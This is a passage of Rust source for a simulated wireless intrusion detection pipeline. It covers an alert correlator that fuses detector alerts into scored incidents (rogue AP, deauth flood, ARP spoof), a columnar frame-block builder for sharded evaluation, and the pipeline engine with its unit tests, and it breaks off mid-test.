            | AlertKind::RssiInconsistent
            | AlertKind::SsidChurn
            | AlertKind::CloakedTwin
            | AlertKind::KarmaProbe => IncidentCategory::RogueAp,
            AlertKind::DeauthFlood => IncidentCategory::DeauthFlood,
            AlertKind::ArpSpoof => IncidentCategory::ArpSpoof,
        }
    }
}

/// A fused, scored security incident.
#[derive(Clone, Debug)]
pub struct Incident {
    /// Dense identifier in opening order.
    pub id: u32,
    /// Taxonomy bucket.
    pub category: IncidentCategory,
    /// The offending address the evidence converges on.
    pub subject: MacAddr,
    /// When the score first crossed the open threshold.
    pub opened_at: SimTime,
    /// Most recent supporting alert.
    pub last_evidence_at: SimTime,
    /// Noisy-or fused confidence in [0, 1).
    pub score: f64,
    /// Alerts fused into this incident (after dedup).
    pub alerts_fused: u32,
    /// Distinct detectors that contributed.
    pub detectors: Vec<&'static str>,
}

/// Correlation tuning.
#[derive(Clone, Debug)]
pub struct CorrelatorConfig {
    /// Repeats of an identical claim inside this window are counted as
    /// duplicates rather than fresh evidence.
    pub dedup_window: SimDuration,
    /// Evidence older than this no longer corroborates a case file that
    /// has not yet opened.
    pub fuse_window: SimDuration,
    /// Fused score needed to open an incident.
    pub open_threshold: f64,
}

impl Default for CorrelatorConfig {
    fn default() -> Self {
        CorrelatorConfig {
            dedup_window: SimDuration::from_millis(500),
            fuse_window: SimDuration::from_secs(5),
            open_threshold: 0.8,
        }
    }
}

/// Per-(category, subject) evidence accumulator.
struct CaseFile {
    /// Best weight seen per distinct detector, with its arrival time.
    witnesses: Vec<(&'static str, f64, SimTime)>,
    alerts_fused: u32,
    incident: Option<usize>,
}

/// The correlation engine.
pub struct Correlator {
    cfg: CorrelatorConfig,
    last_claim: HashMap<(&'static str, MacAddr, AlertKind), SimTime>,
    cases: HashMap<(IncidentCategory, MacAddr), CaseFile>,
    incidents: Vec<Incident>,
}

impl Correlator {
    /// Engine with the given tuning.
    pub fn new(cfg: CorrelatorConfig) -> Correlator {
        Correlator {
            cfg,
            last_claim: HashMap::new(),
            cases: HashMap::new(),
            incidents: Vec::new(),
        }
    }

    /// Feed one raw alert; updates metrics and possibly opens or
    /// reinforces an incident.
    pub fn ingest(&mut self, alert: &RawAlert, metrics: &mut Metrics) {
        metrics.incr("wids.alerts_raw");
        // Dedup identical claims.
        let claim = (alert.detector, alert.subject, alert.kind);
        if let Some(&prev) = self.last_claim.get(&claim) {
            if alert.at.as_nanos().saturating_sub(prev.as_nanos())
                < self.cfg.dedup_window.as_nanos()
            {
                metrics.incr("wids.alerts_deduped");
                return;
            }
        }
        self.last_claim.insert(claim, alert.at);

        let key = (IncidentCategory::of(alert.kind), alert.subject);
        let case = self.cases.entry(key).or_insert(CaseFile {
            witnesses: Vec::new(),
            alerts_fused: 0,
            incident: None,
        });
        case.alerts_fused += 1;
        // Until the case opens, stale witnesses age out of the window.
        if case.incident.is_none() {
            let horizon = SimTime(
                alert
                    .at
                    .as_nanos()
                    .saturating_sub(self.cfg.fuse_window.as_nanos()),
            );
            case.witnesses.retain(|&(_, _, t)| t >= horizon);
        }
        match case
            .witnesses
            .iter_mut()
            .find(|(d, _, _)| *d == alert.detector)
        {
            Some(w) => {
                w.1 = w.1.max(alert.weight);
                w.2 = alert.at;
            }
            None => case
                .witnesses
                .push((alert.detector, alert.weight, alert.at)),
        }
        let score = 1.0
            - case
                .witnesses
                .iter()
                .map(|&(_, w, _)| 1.0 - w)
                .product::<f64>();

        match case.incident {
            Some(idx) => {
                let inc = &mut self.incidents[idx];
                inc.score = score;
                inc.last_evidence_at = alert.at;
                inc.alerts_fused = case.alerts_fused;
                if !inc.detectors.contains(&alert.detector) {
                    inc.detectors.push(alert.detector);
                }
            }
            None if score >= self.cfg.open_threshold => {
                let id = self.incidents.len() as u32;
                metrics.incr("wids.incidents_opened");
                metrics.observe("wids.incident_score", score);
                self.incidents.push(Incident {
                    id,
                    category: key.0,
                    subject: key.1,
                    opened_at: alert.at,
                    last_evidence_at: alert.at,
                    score,
                    alerts_fused: case.alerts_fused,
                    detectors: case.witnesses.iter().map(|&(d, _, _)| d).collect(),
                });
                case.incident = Some(id as usize);
            }
            None => {}
        }
    }

    /// Incidents opened so far, in opening order.
    pub fn incidents(&self) -> &[Incident] {
        &self.incidents
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn alert(
        ms: u64,
        detector: &'static str,
        subject: MacAddr,
        kind: AlertKind,
        weight: f64,
    ) -> RawAlert {
        RawAlert {
            at: SimTime::from_millis(ms),
            detector,
            subject,
            kind,
            weight,
            detail: String::new(),
        }
    }

    #[test]
    fn strong_single_witness_opens_immediately() {
        let mut c = Correlator::new(CorrelatorConfig::default());
        let mut m = Metrics::default();
        c.ingest(
            &alert(
                100,
                "beacon-audit",
                MacAddr::local(1),
                AlertKind::BssidSpoof,
                0.9,
            ),
            &mut m,
        );
        assert_eq!(c.incidents().len(), 1);
        let inc = &c.incidents()[0];
        assert_eq!(inc.category, IncidentCategory::RogueAp);
        assert_eq!(inc.opened_at, SimTime::from_millis(100));
        assert!(inc.score >= 0.9);
    }

    #[test]
    fn weak_witnesses_corroborate() {
        let mut c = Correlator::new(CorrelatorConfig::default());
        let mut m = Metrics::default();
        let s = MacAddr::local(1);
        c.ingest(
            &alert(0, "seq-control", s, AlertKind::SequenceAnomaly, 0.7),
            &mut m,
        );
        assert!(c.incidents().is_empty(), "0.7 < 0.8 alone");
        c.ingest(
            &alert(100, "rssi-split", s, AlertKind::RssiInconsistent, 0.5),
            &mut m,
        );
        assert_eq!(c.incidents().len(), 1, "1-0.3*0.5 = 0.85 >= 0.8");
        let inc = &c.incidents()[0];
        assert_eq!(inc.detectors.len(), 2);
        assert!((inc.score - 0.85).abs() < 1e-9);
    }

    #[test]
    fn duplicate_claims_dedup_not_stack() {
        let mut c = Correlator::new(CorrelatorConfig::default());
        let mut m = Metrics::default();
        let s = MacAddr::local(1);
        // The same 0.7 claim repeated fast must never cross 0.8.
        for i in 0..20u64 {
            c.ingest(
                &alert(i * 50, "seq-control", s, AlertKind::SequenceAnomaly, 0.7),
                &mut m,
            );
        }
        assert!(c.incidents().is_empty(), "{:?}", c.incidents());
        assert!(m.counter("wids.alerts_deduped") > 0);
    }

    #[test]
    fn distinct_subjects_get_distinct_incidents() {
        let mut c = Correlator::new(CorrelatorConfig::default());
        let mut m = Metrics::default();
        c.ingest(
            &alert(
                0,
                "beacon-audit",
                MacAddr::local(1),
                AlertKind::BssidSpoof,
                0.9,
            ),
            &mut m,
        );
        c.ingest(
            &alert(
                10,
                "deauth-flood",
                MacAddr::local(2),
                AlertKind::DeauthFlood,
                0.85,
            ),
            &mut m,
        );
        assert_eq!(c.incidents().len(), 2);
        assert_eq!(c.incidents()[1].category, IncidentCategory::DeauthFlood);
        assert_eq!(m.counter("wids.incidents_opened"), 2);
    }

    #[test]
    fn stale_evidence_ages_out_before_opening() {
        let mut c = Correlator::new(CorrelatorConfig::default());
        let mut m = Metrics::default();
        let s = MacAddr::local(1);
        c.ingest(
            &alert(0, "seq-control", s, AlertKind::SequenceAnomaly, 0.7),
            &mut m,
        );
        // 6 s later — outside the 5 s fuse window, so 0.5 stands alone.
        c.ingest(
            &alert(6000, "rssi-split", s, AlertKind::RssiInconsistent, 0.5),
            &mut m,
        );
        assert!(c.incidents().is_empty(), "{:?}", c.incidents());
    }

    #[test]
    fn corroboration_updates_open_incident() {
        let mut c = Correlator::new(CorrelatorConfig::default());
        let mut m = Metrics::default();
        let s = MacAddr::local(1);
        c.ingest(
            &alert(0, "beacon-audit", s, AlertKind::BssidSpoof, 0.9),
            &mut m,
        );
        c.ingest(
            &alert(700, "seq-control", s, AlertKind::SequenceAnomaly, 0.7),
            &mut m,
        );
        assert_eq!(c.incidents().len(), 1, "reinforced, not duplicated");
        let inc = &c.incidents()[0];
        assert_eq!(inc.detectors.len(), 2);
        assert!(inc.score > 0.9);
        assert_eq!(inc.last_evidence_at, SimTime::from_millis(700));
    }
}
