//! Structure-of-arrays frame blocks for batched detector evaluation.
//!
//! The per-frame path dispatches every event through every detector via
//! trait objects — one virtual call and one hash per detector per frame.
//! The batch path instead digests a whole block of events into columnar
//! arrays once (timestamps, transmitter addresses, pre-mixed hashes,
//! group assignments), then lets the shardable detectors sweep their
//! column slices shard-by-shard with no per-event virtual dispatch.
//!
//! A block also carries the *routing plan*: for each shard, the ascending
//! list of rows whose transmitter group falls inside that shard's group
//! range. Two invariants make sharded evaluation bit-identical to
//! serial:
//!
//! 1. every row of one transmitter lands in exactly one shard (groups
//!    partition by key hash, shards own contiguous group ranges), and
//! 2. each shard visits its rows in ascending row order — the same
//!    relative order the serial path would have used, and per-key state
//!    only ever depends on that key's own history.

use rogue_dot11::MacAddr;
use rogue_sim::SimTime;

use crate::detectors::seq::TA_GROUPS;
use crate::event::{Dot11Kind, SensorEvent};
use crate::sketch::hash_mac;

/// One batch of radio rows in structure-of-arrays layout. Rows cover the
/// Dot11 events the shardable detectors consume (everything but ACKs);
/// `event_idx` maps each row back to its position in the source batch so
/// alert ordering can be reconstructed exactly.
pub(crate) struct FrameBlock {
    /// Source-batch index of each row.
    pub event_idx: Vec<u32>,
    pub at: Vec<SimTime>,
    pub ta: Vec<MacAddr>,
    pub seq: Vec<u16>,
    pub channel: Vec<u8>,
    pub retry: Vec<bool>,
    /// `ta == bssid` for the row — the AP-role signal.
    pub is_ap: Vec<bool>,
    pub rssi_dbm: Vec<f64>,
    pub sensor: Vec<u16>,
    /// Bounded-table group of the transmitter hash; shard routing and
    /// every per-source table lookup share this one value.
    pub group: Vec<u32>,
    /// Ascending row indices owned by each shard.
    pub shard_rows: Vec<Vec<u32>>,
    /// Source-batch indices of beacon frames (broadcast and probe
    /// response) — the only events the beacon and probe auditors
    /// consume. The cross-key phase walks these lists instead of
    /// re-matching every event's kind against every detector.
    pub beacon_events: Vec<u32>,
    /// Source-batch indices of deauthentication frames.
    pub deauth_events: Vec<u32>,
    /// Source-batch indices of wired ARP events.
    pub arp_events: Vec<u32>,
}

impl FrameBlock {
    /// Digest `events` into columns and route rows across `shards`
    /// (which must divide the group count).
    pub fn build(events: &[SensorEvent], shards: usize) -> FrameBlock {
        assert!(shards >= 1 && TA_GROUPS.is_multiple_of(shards));
        let groups_per_shard = (TA_GROUPS / shards) as u32;
        let mut b = FrameBlock {
            event_idx: Vec::with_capacity(events.len()),
            at: Vec::with_capacity(events.len()),
            ta: Vec::with_capacity(events.len()),
            seq: Vec::with_capacity(events.len()),
            channel: Vec::with_capacity(events.len()),
            retry: Vec::with_capacity(events.len()),
            is_ap: Vec::with_capacity(events.len()),
            rssi_dbm: Vec::with_capacity(events.len()),
            sensor: Vec::with_capacity(events.len()),
            group: Vec::with_capacity(events.len()),
            shard_rows: vec![Vec::new(); shards],
            beacon_events: Vec::new(),
            deauth_events: Vec::new(),
            arp_events: Vec::new(),
        };
        for (i, ev) in events.iter().enumerate() {
            let SensorEvent::Dot11(e) = ev else {
                b.arp_events.push(i as u32);
                continue;
            };
            match e.kind {
                Dot11Kind::Ack => continue,
                Dot11Kind::Beacon { .. } => b.beacon_events.push(i as u32),
                Dot11Kind::Deauth { .. } => b.deauth_events.push(i as u32),
                _ => {}
            }
            let row = b.event_idx.len() as u32;
            let h = hash_mac(&e.ta.0);
            let group = (h & (TA_GROUPS as u64 - 1)) as u32;
            b.event_idx.push(i as u32);
            b.at.push(e.at);
            b.ta.push(e.ta);
            b.seq.push(e.seq);
            b.channel.push(e.channel);
            b.retry.push(e.retry);
            b.is_ap.push(e.ta == e.bssid);
            b.rssi_dbm.push(e.rssi_dbm);
            b.sensor.push(e.sensor.0);
            b.group.push(group);
            b.shard_rows[(group / groups_per_shard) as usize].push(row);
        }
        b
    }

    /// Rows digested into the block.
    pub fn rows(&self) -> usize {
        self.event_idx.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, SensorId};

    fn frame(ms: u64, ta: MacAddr, kind: Dot11Kind) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(2),
            at: SimTime::from_millis(ms),
            channel: 6,
            rssi_dbm: -42.0,
            ta,
            ra: MacAddr::BROADCAST,
            bssid: ta,
            seq: (ms % 4096) as u16,
            retry: false,
            kind,
        })
    }

    #[test]
    fn rows_partition_across_shards_in_order() {
        let events: Vec<SensorEvent> = (0..100u64)
            .map(|i| frame(i, MacAddr::local(i % 10), Dot11Kind::Mgmt))
            .collect();
        let b = FrameBlock::build(&events, 8);
        assert_eq!(b.rows(), 100);
        let mut seen: Vec<u32> = b.shard_rows.iter().flatten().copied().collect();
        assert_eq!(seen.len(), 100, "every row routed exactly once");
        seen.sort_unstable();
        assert_eq!(seen, (0..100).collect::<Vec<u32>>());
        for rows in &b.shard_rows {
            assert!(rows.windows(2).all(|w| w[0] < w[1]), "ascending per shard");
        }
        // All frames of one transmitter live in one shard.
        for ta in 0..10u64 {
            let shards_hit: Vec<usize> = b
                .shard_rows
                .iter()
                .enumerate()
                .filter(|(_, rows)| rows.iter().any(|&r| b.ta[r as usize] == MacAddr::local(ta)))
                .map(|(s, _)| s)
                .collect();
            assert_eq!(shards_hit.len(), 1, "ta {ta} split across shards");
        }
    }

    #[test]
    fn acks_and_arp_events_produce_no_rows() {
        let events = vec![
            frame(0, MacAddr::local(1), Dot11Kind::Ack),
            frame(1, MacAddr::local(1), Dot11Kind::Mgmt),
        ];
        let b = FrameBlock::build(&events, 4);
        assert_eq!(b.rows(), 1);
        assert_eq!(b.event_idx[0], 1, "row maps back to the source index");
    }
}
