//! The WIDS pipeline: sensors -> rings -> detector engine -> correlator.
//!
//! The pipeline is stepped from the outside, in lockstep with the
//! simulation: run a slice, let each sensor drain into its ring, then
//! [`WidsPipeline::step`] dispatches everything buffered. Sensors can
//! share the common ring or own a per-sensor shard ring
//! ([`WidsPipeline::sensor_ring`]); the step drains them all and
//! stable-sorts the merged stream by timestamp, so detectors always see
//! one globally time-ordered stream, identically on every run —
//! determinism is a property of the pipeline, not of sensor polling
//! order.
//!
//! Two interchangeable engines evaluate the detector suite
//! ([`EngineMode`]):
//!
//! * **Serial** — the reference path: every event visits every detector
//!   through trait-object dispatch, in a fixed stage order.
//! * **Sharded** — the streaming-analytics path: events are digested
//!   into structure-of-arrays [`FrameBlock`]s, the per-source stages
//!   (sequence-control, RSSI) sweep disjoint shard views of their
//!   bounded tables in parallel, and the cross-key stages run serially
//!   over the same block. Every alert is tagged with its (event, stage)
//!   coordinates and the merged stream is stable-sorted back into exact
//!   serial order before correlation.
//!
//! The two engines are **bit-identical**: same alerts, same order, same
//! incidents, same metrics, at any shard count, batch size, or
//! `RAYON_NUM_THREADS` — the shard-equivalence suite proves it, and the
//! golden experiment tables depend on it.

use rayon::prelude::*;
use rogue_detect::seqmon::SeqMonConfig;
use rogue_dot11::MacAddr;
use rogue_netstack::Ipv4Addr;
use rogue_sim::trace::Metrics;
use rogue_sim::SimTime;

use crate::block::FrameBlock;
use crate::correlate::{Correlator, CorrelatorConfig, Incident, IncidentCategory};
use crate::detector::{Detector, RawAlert};
use crate::detectors::arp::{ArpSpoofConfig, ArpSpoofDetector};
use crate::detectors::beacon::{BeaconConfig, BeaconDetector};
use crate::detectors::deauth::{DeauthFloodConfig, DeauthFloodDetector};
use crate::detectors::probe::{ProbeAuditConfig, ProbeAuditDetector};
use crate::detectors::rssi::{rssi_observe, RssiEntry, RssiSplitConfig, RssiSplitDetector};
use crate::detectors::seq::{seq_observe, SeqControlDetector, SeqEntry, TA_GROUPS};
use crate::event::{SensorEvent, SensorId, SensorRing};

/// How the detector suite is evaluated over a step's event batch.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum EngineMode {
    /// Per-frame trait-object dispatch in stage order — the reference
    /// semantics and the throughput baseline.
    Serial,
    /// Batched structure-of-arrays evaluation: per-source stages sweep
    /// `shards` disjoint table shards in parallel over blocks of at most
    /// `batch` events. Bit-identical to [`EngineMode::Serial`].
    Sharded {
        /// Parallel shards for the per-source stages; a power of two
        /// dividing the bounded tables' group count.
        shards: usize,
        /// Block size the step's event batch is digested in.
        batch: usize,
    },
}

impl Default for EngineMode {
    fn default() -> Self {
        EngineMode::Sharded {
            shards: 8,
            batch: 1024,
        }
    }
}

/// Stage indices of the built-in suite — the serial dispatch order, and
/// the sort key that restores it after sharded evaluation.
const STAGE_SEQ: u8 = 0;
const STAGE_BEACON: u8 = 1;
const STAGE_DEAUTH: u8 = 2;
const STAGE_RSSI: u8 = 3;
const STAGE_ARP: u8 = 4;
const STAGE_PROBE: u8 = 5;
const STAGE_EXTRA: u8 = 6;

/// Whole-pipeline configuration.
#[derive(Clone, Debug)]
pub struct WidsConfig {
    /// Bounded ring capacity between sensors and detectors (shared ring
    /// and each per-sensor shard ring).
    pub ring_capacity: usize,
    /// Authorized (BSSID, channel) registry for the beacon and probe
    /// auditors.
    pub authorized_aps: Vec<(MacAddr, u8)>,
    /// Trusted wired IP -> MAC bindings for the ARP detector.
    pub trusted_bindings: Vec<(Ipv4Addr, MacAddr)>,
    /// Sequence-control monitor tuning.
    pub seqmon: SeqMonConfig,
    /// Deauth-flood tuning.
    pub deauth: DeauthFloodConfig,
    /// RSSI-consistency tuning.
    pub rssi: RssiSplitConfig,
    /// ARP-spoof tuning.
    pub arp: ArpSpoofConfig,
    /// Probe-response audit tuning (its registry is overridden by
    /// [`WidsConfig::authorized_aps`] at construction).
    pub probe: ProbeAuditConfig,
    /// Correlation tuning.
    pub correlator: CorrelatorConfig,
    /// Detector evaluation engine.
    pub engine: EngineMode,
}

impl Default for WidsConfig {
    fn default() -> Self {
        WidsConfig {
            ring_capacity: 4096,
            authorized_aps: Vec::new(),
            trusted_bindings: Vec::new(),
            seqmon: SeqMonConfig::default(),
            deauth: DeauthFloodConfig::default(),
            rssi: RssiSplitConfig::default(),
            arp: ArpSpoofConfig::default(),
            probe: ProbeAuditConfig::default(),
            correlator: CorrelatorConfig::default(),
            engine: EngineMode::default(),
        }
    }
}

/// The assembled intrusion-detection pipeline.
pub struct WidsPipeline {
    /// Sensors without a dedicated ring push digested events here.
    pub ring: SensorRing,
    /// Per-sensor ingest shards, indexed by [`SensorId`].
    shard_rings: Vec<SensorRing>,
    ring_capacity: usize,
    mode: EngineMode,
    seq: SeqControlDetector,
    beacon: BeaconDetector,
    deauth: DeauthFloodDetector,
    rssi: RssiSplitDetector,
    arp: ArpSpoofDetector,
    probe: ProbeAuditDetector,
    extras: Vec<Box<dyn Detector>>,
    correlator: Correlator,
    metrics: Metrics,
    next_sensor: u16,
    drops_reported: u64,
    scratch: Vec<RawAlert>,
    tagged: Vec<(u32, u8, RawAlert)>,
    /// Simulation time of the most recent [`WidsPipeline::step`].
    pub last_step_at: SimTime,
}

impl WidsPipeline {
    /// Pipeline with the standard six-detector suite.
    pub fn new(cfg: WidsConfig) -> WidsPipeline {
        if let EngineMode::Sharded { shards, batch } = cfg.engine {
            assert!(
                shards >= 1 && TA_GROUPS.is_multiple_of(shards),
                "shards must be a power of two dividing {TA_GROUPS}"
            );
            assert!(batch >= 1, "batch size must be nonzero");
        }
        let mut arp = ArpSpoofDetector::new(cfg.arp);
        for (ip, mac) in &cfg.trusted_bindings {
            arp.trust(*ip, *mac);
        }
        WidsPipeline {
            ring: SensorRing::new(cfg.ring_capacity),
            shard_rings: Vec::new(),
            ring_capacity: cfg.ring_capacity,
            mode: cfg.engine,
            seq: SeqControlDetector::new(cfg.seqmon),
            beacon: BeaconDetector::new(BeaconConfig {
                authorized: cfg.authorized_aps.clone(),
                ..BeaconConfig::default()
            }),
            deauth: DeauthFloodDetector::new(cfg.deauth),
            rssi: RssiSplitDetector::new(cfg.rssi),
            arp,
            probe: ProbeAuditDetector::new(ProbeAuditConfig {
                authorized: cfg.authorized_aps,
                ..cfg.probe
            }),
            extras: Vec::new(),
            correlator: Correlator::new(cfg.correlator),
            metrics: Metrics::default(),
            next_sensor: 0,
            drops_reported: 0,
            scratch: Vec::new(),
            tagged: Vec::new(),
            last_step_at: SimTime::ZERO,
        }
    }

    /// Register an additional detector behind the standard suite.
    pub fn push_detector(&mut self, d: Box<dyn Detector>) {
        self.extras.push(d);
    }

    /// Allocate the next sensor identity.
    pub fn new_sensor_id(&mut self) -> SensorId {
        let id = SensorId(self.next_sensor);
        self.next_sensor += 1;
        id
    }

    /// The sensor's dedicated ingest shard. Events pushed here are
    /// merged (and globally time-sorted) with the shared ring at the
    /// next step; a busy sensor filling its own shard can therefore
    /// never tail-drop a quiet sensor's events.
    pub fn sensor_ring(&mut self, id: SensorId) -> &mut SensorRing {
        let idx = id.0 as usize;
        while self.shard_rings.len() <= idx {
            self.shard_rings.push(SensorRing::new(self.ring_capacity));
        }
        &mut self.shard_rings[idx]
    }

    /// The engine evaluating the suite.
    pub fn engine_mode(&self) -> EngineMode {
        self.mode
    }

    /// Dispatch everything buffered in the rings through the detector
    /// suite and the correlator. Returns how many events were processed.
    pub fn step(&mut self, now: SimTime) -> usize {
        self.last_step_at = now;
        self.metrics.incr("wids.steps");
        let mut events = self.ring.drain();
        for ring in &mut self.shard_rings {
            events.extend(ring.drain());
        }
        // Per-sensor batches are each time-ordered; a stable sort makes
        // the merged stream deterministic regardless of drain order.
        events.sort_by_key(|e| e.at());
        let n = events.len();
        self.metrics.add("wids.events", n as u64);
        let total_dropped =
            self.ring.dropped + self.shard_rings.iter().map(|r| r.dropped).sum::<u64>();
        let new_drops = total_dropped - self.drops_reported;
        if new_drops > 0 {
            self.metrics.add("wids.ring_dropped", new_drops);
            self.drops_reported = total_dropped;
        }
        match self.mode {
            EngineMode::Serial => self.step_serial(&events),
            EngineMode::Sharded { shards, batch } => {
                for chunk in events.chunks(batch) {
                    self.step_batch(chunk, shards);
                }
            }
        }
        n
    }

    /// Reference path: per-event trait dispatch in stage order.
    fn step_serial(&mut self, events: &[SensorEvent]) {
        for ev in events {
            self.seq.on_event(ev, &mut self.scratch);
            self.beacon.on_event(ev, &mut self.scratch);
            self.deauth.on_event(ev, &mut self.scratch);
            self.rssi.on_event(ev, &mut self.scratch);
            self.arp.on_event(ev, &mut self.scratch);
            self.probe.on_event(ev, &mut self.scratch);
            for det in &mut self.extras {
                det.on_event(ev, &mut self.scratch);
            }
            for alert in self.scratch.drain(..) {
                self.correlator.ingest(&alert, &mut self.metrics);
            }
        }
    }

    /// Batched path: one SoA block, per-source stages parallel over
    /// disjoint table shards, cross-key stages serial, then a stable
    /// (event, stage) sort that reconstructs serial alert order exactly.
    fn step_batch(&mut self, events: &[SensorEvent], shards: usize) {
        let mut tagged = std::mem::take(&mut self.tagged);
        let block = FrameBlock::build(events, shards);

        if block.rows() > 0 {
            let (seq_cfg, seq_views) = self.seq.batch_parts(shards);
            let (rssi_cfg, rssi_views) = self.rssi.batch_parts(shards);
            let block_ref = &block;
            let tasks: Vec<_> = seq_views
                .into_iter()
                .zip(rssi_views)
                .enumerate()
                .map(|(s, (sv, rv))| (sv, rv, &block_ref.shard_rows[s]))
                .collect();
            type ShardOut = (Vec<(u32, u8, RawAlert)>, u64, u64, u64);
            let results: Vec<ShardOut> = tasks
                .into_par_iter()
                .map(move |(mut seq_view, mut rssi_view, rows)| {
                    let mut out: Vec<(u32, u8, RawAlert)> = Vec::new();
                    for &row in rows {
                        let r = row as usize;
                        let at = block_ref.at[r];
                        let ta = block_ref.ta[r];
                        let group = block_ref.group[r] as usize;
                        let idx = block_ref.event_idx[r];
                        let st = seq_view.entry(at, group, ta, SeqEntry::new);
                        seq_observe(
                            seq_cfg,
                            st,
                            at,
                            ta,
                            block_ref.seq[r],
                            block_ref.channel[r],
                            block_ref.retry[r],
                            block_ref.is_ap[r],
                            |a| out.push((idx, STAGE_SEQ, a)),
                        );
                        let key = (ta, block_ref.sensor[r], block_ref.channel[r]);
                        let st = rssi_view.entry(at, group, key, RssiEntry::new);
                        rssi_observe(
                            rssi_cfg,
                            st,
                            at,
                            ta,
                            block_ref.channel[r],
                            block_ref.rssi_dbm[r],
                            |a| out.push((idx, STAGE_RSSI, a)),
                        );
                    }
                    (
                        out,
                        rows.len() as u64,
                        seq_view.evictions,
                        rssi_view.evictions,
                    )
                })
                .collect();
            let (mut observed, mut seq_ev, mut rssi_ev) = (0u64, 0u64, 0u64);
            for (alerts, obs, se, re) in results {
                tagged.extend(alerts);
                observed += obs;
                seq_ev += se;
                rssi_ev += re;
            }
            self.seq.fold_batch(observed, seq_ev);
            self.rssi.fold_batch(rssi_ev);
        }

        if self.extras.is_empty() {
            // Cross-key detectors each consume one frame class; the
            // block's kind lists let them visit exactly those events
            // instead of re-matching every event against every
            // detector. Every skipped call was a no-op, and the final
            // (event, stage) sort reconstructs serial order, so this is
            // bit-identical to the full sweep.
            for &i in &block.beacon_events {
                let ev = &events[i as usize];
                self.beacon.on_event(ev, &mut self.scratch);
                tagged.extend(self.scratch.drain(..).map(|a| (i, STAGE_BEACON, a)));
                self.probe.on_event(ev, &mut self.scratch);
                tagged.extend(self.scratch.drain(..).map(|a| (i, STAGE_PROBE, a)));
            }
            for &i in &block.deauth_events {
                self.deauth.on_event(&events[i as usize], &mut self.scratch);
                tagged.extend(self.scratch.drain(..).map(|a| (i, STAGE_DEAUTH, a)));
            }
            for &i in &block.arp_events {
                self.arp.on_event(&events[i as usize], &mut self.scratch);
                tagged.extend(self.scratch.drain(..).map(|a| (i, STAGE_ARP, a)));
            }
        } else {
            // Pluggable extras are opaque: they may consume any event,
            // so the full in-order sweep runs for everything.
            for (i, ev) in events.iter().enumerate() {
                let i = i as u32;
                self.beacon.on_event(ev, &mut self.scratch);
                tagged.extend(self.scratch.drain(..).map(|a| (i, STAGE_BEACON, a)));
                self.deauth.on_event(ev, &mut self.scratch);
                tagged.extend(self.scratch.drain(..).map(|a| (i, STAGE_DEAUTH, a)));
                self.arp.on_event(ev, &mut self.scratch);
                tagged.extend(self.scratch.drain(..).map(|a| (i, STAGE_ARP, a)));
                self.probe.on_event(ev, &mut self.scratch);
                tagged.extend(self.scratch.drain(..).map(|a| (i, STAGE_PROBE, a)));
                for (x, det) in self.extras.iter_mut().enumerate() {
                    det.on_event(ev, &mut self.scratch);
                    let stage = STAGE_EXTRA + x as u8;
                    tagged.extend(self.scratch.drain(..).map(|a| (i, stage, a)));
                }
            }
        }

        tagged.sort_by_key(|&(idx, stage, _)| (idx, stage));
        for (_, _, alert) in tagged.drain(..) {
            self.correlator.ingest(&alert, &mut self.metrics);
        }
        self.tagged = tagged;
    }

    /// Incidents opened so far, in opening order.
    pub fn incidents(&self) -> &[Incident] {
        self.correlator.incidents()
    }

    /// Earliest incident of a category, if any.
    pub fn first_incident(&self, category: IncidentCategory) -> Option<&Incident> {
        self.incidents().iter().find(|i| i.category == category)
    }

    /// Pipeline metrics (alert/incident counters, score histogram).
    pub fn metrics(&self) -> &Metrics {
        &self.metrics
    }

    /// Total fixed footprint of the suite's bounded per-source state
    /// (tables plus sketches), in bytes. Constant over the pipeline's
    /// lifetime — the bounded-memory suite pins this.
    pub fn detector_state_bytes(&self) -> usize {
        self.seq.state_bytes()
            + self.rssi.state_bytes()
            + self.deauth.state_bytes()
            + self.arp.state_bytes()
            + self.probe.state_bytes()
    }

    /// Transmitters currently tracked by the sequence-control stage
    /// (bounded by its table capacity).
    pub fn tracked_sources(&self) -> usize {
        self.seq.tracked_sources()
    }

    /// Per-source table entries recycled under cardinality pressure.
    pub fn state_evictions(&self) -> u64 {
        self.seq.evictions() + self.rssi.evictions()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, Dot11Kind, SensorEvent};

    fn beacon(ms: u64, bssid: MacAddr, ssid: &str, channel: u8, sensor: u16) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(sensor),
            at: SimTime::from_millis(ms),
            channel,
            rssi_dbm: -40.0,
            ta: bssid,
            ra: MacAddr::BROADCAST,
            bssid,
            seq: (ms % 4096) as u16,
            retry: false,
            kind: Dot11Kind::Beacon {
                ssid: ssid.into(),
                claimed_channel: channel,
                capability: 0,
                probe_resp: false,
            },
        })
    }

    #[test]
    fn spoofed_bssid_becomes_a_rogue_ap_incident() {
        let corp = MacAddr::local(1);
        let mut p = WidsPipeline::new(WidsConfig {
            authorized_aps: vec![(corp, 1)],
            ..WidsConfig::default()
        });
        p.ring.push(beacon(0, corp, "CORP", 1, 0));
        p.ring.push(beacon(100, corp, "CORP", 6, 1));
        assert_eq!(p.step(SimTime::from_millis(200)), 2);
        let inc = p
            .first_incident(IncidentCategory::RogueAp)
            .expect("incident");
        assert_eq!(inc.subject, corp);
        assert_eq!(p.metrics().counter("wids.incidents_opened"), 1);
    }

    #[test]
    fn step_orders_events_across_sensors() {
        let corp = MacAddr::local(1);
        let mut p = WidsPipeline::new(WidsConfig {
            authorized_aps: vec![(corp, 1)],
            ..WidsConfig::default()
        });
        // Sensor 1's batch lands in the ring before sensor 0's earlier
        // capture; the incident must still open at the true first sight.
        p.ring.push(beacon(300, corp, "CORP", 6, 1));
        p.ring.push(beacon(250, corp, "CORP", 6, 0));
        p.step(SimTime::from_millis(400));
        let inc = p.first_incident(IncidentCategory::RogueAp).unwrap();
        assert_eq!(inc.opened_at, SimTime::from_millis(250));
    }

    #[test]
    fn sensor_ids_are_dense() {
        let mut p = WidsPipeline::new(WidsConfig::default());
        assert_eq!(p.new_sensor_id(), SensorId(0));
        assert_eq!(p.new_sensor_id(), SensorId(1));
        assert_eq!(p.new_sensor_id(), SensorId(2));
    }

    #[test]
    fn per_sensor_shard_rings_merge_in_time_order() {
        let corp = MacAddr::local(1);
        let mut p = WidsPipeline::new(WidsConfig {
            authorized_aps: vec![(corp, 1)],
            ..WidsConfig::default()
        });
        let s0 = p.new_sensor_id();
